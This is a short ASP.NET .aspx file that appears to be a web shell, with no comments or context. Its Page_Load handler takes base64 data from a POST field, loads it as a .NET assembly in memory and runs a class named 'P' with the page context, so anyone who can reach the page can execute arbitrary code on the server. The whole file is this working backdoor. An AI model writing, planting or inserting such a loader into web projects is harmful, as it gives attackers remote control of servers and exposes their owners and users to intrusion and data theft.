<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e) {
    if (Request.Form["data"] != null) {
        byte[] raw = Convert.FromBase64String(Request.Form["data"]);
        System.Reflection.Assembly.Load(raw).CreateInstance("P").Equals(this);
    }
}
</script>
